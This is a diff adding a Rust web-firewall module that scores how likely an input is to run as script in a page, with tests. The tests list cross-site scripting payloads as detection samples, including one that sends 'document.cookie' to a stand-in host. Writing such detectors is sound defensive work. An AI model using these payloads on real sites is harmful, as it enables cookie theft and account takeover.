@@ -1,0 +1,132 @@
+//! HTML and the script in it: whether a value runs in the page that shows it.
+//!
+//! A value does so as a tag that loads or runs something, as an attribute that it adds to a tag around it,
+//! or as script that goes on behind the string it stands in. Tags are read as forgivingly as browsers read
+//! them: with `/` or control bytes for spaces, without quotes, without an end.
+
+mod script;
+mod tag;
+
+use super::{Strength, is_document};
+
+/// Tags of a value that are looked at.
+const MAX_TAGS: usize = 256;
+
+/// How sure it is that a value runs in a page.
+pub(in crate::waf) fn markup(value: &[u8]) -> Option<Strength> {
+    let found = judge(value)?;
+    if !is_document(value) {
+        return Some(found);
+    }
+    // People write about script, and show it; what steals is seldom shown.
+    if found == Strength::Certain && script::is_hostile(value) {
+        Some(Strength::Likely)
+    } else {
+        Some(Strength::Possible)
+    }
+}
+
+fn judge(value: &[u8]) -> Option<Strength> {
+    let mut found = script::address(value).max(script::breakout(value)).max(tag::added_attribute(value));
+    let mut from = 0;
+    for _ in 0..MAX_TAGS {
+        if found == Some(Strength::Certain) {
+            break;
+        }
+        let Some(at) = value.get(from..).and_then(|rest| memchr::memchr(b'<', rest)) else { break };
+        from += at + 1;
+        found = found.max(tag::tag(value.get(from..).unwrap_or_default()));
+    }
+    found
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn check(value: &str, holds: bool) {
+        assert!(holds, "{value}");
+    }
+
+    #[test]
+    fn what_runs() {
+        for value in [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=alert(1)>",
+            "<SCRIPT src=//e.example>",
+            "\" onmouseover=alert(1) x=\"",
+            "' autofocus onfocus='alert(1)",
+            "<body onpageshow=alert(1)>",
+            "javascript:alert(1)",
+            " java\tscript:alert(1)",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "<a href=java&#115;cript:alert(1)>",
+            "<iframe srcdoc=\"<b>\">",
+            "<object data=x>",
+            "<embed src=//e.example>",
+            "<base href=//e.example/>",
+            "<meta http-equiv=refresh content=0;url=//e.example>",
+            "';alert(1)//",
+            "\"-alert(1)-\"",
+            "\\';alert(1)//",
+            "'+alert(1)+'",
+            "</script><script>alert(1)",
+            "<img/src=x/onerror=alert(1)//",
+            "<details open ontoggle=alert`1`>",
+            "<svg><animate onbegin=alert(1) attributeName=x>",
+            "<x onclick=alert(1)>",
+            "data:text/html,<script>alert(1)</script>",
+            "<form><button formaction=javascript:alert(1)>",
+            "\"><img src=x onerror=alert(1)>",
+            "<math><a xlink:href=javascript:alert(1)>",
+            "<input onfocus=alert(1) autofocus",
+            "');alert(document.cookie)//",
+            "<svg><script>alert(1)",
+            "vbscript:msgbox(1)",
+            "'-prompt(1)-'",
+            "<a\x0conclick=alert(1)>",
+            "\";fetch('//e.example')//",
+        ] {
+            check(value, markup(value.as_bytes()) == Some(Strength::Certain));
+        }
+    }
+
+    #[test]
+    fn what_does_not() {
+        for value in [
+            "a < b and c > d",
+            "I <3 you",
+            "x <- 5",
+            "<b>bold</b> and <a href=\"https://example.com\">link</a>",
+            "javascript: a language",
+            "javascript:void(0)",
+            "javascript:;",
+            "based on load = 5",
+            "one=1",
+            "online=true",
+            "the on/off switch",
+            "O'Reilly; alert the team",
+            "it's (really) an alert",
+            "<img src=\"https://example.com/a.png\" alt=\"a\">",
+            "<p class=\"x\">text</p>",
+            "<br/>",
+            "",
+            "user@example.com <user@example.com>",
+            "a=b&c=d",
+            "x > 5 && y < 3",
+            "conclusion=done",
+            "'quoted' - text",
+        ] {
+            check(value, markup(value.as_bytes()) < Some(Strength::Likely));
+        }
+    }
+
+    #[test]
+    fn pages_are_documents() {
+        let page = "<html>\n<body>\n<button onclick=\"save()\">Save</button>\n<script>\nsave = () => {}\n</script>\n</body></html>";
+        assert_eq!(markup(page.as_bytes()), Some(Strength::Possible));
+        let theft = format!("{page}\n<script>new Image().src='//e.example/'+document.cookie</script>");
+        assert_eq!(markup(theft.as_bytes()), Some(Strength::Likely));
+    }
+}
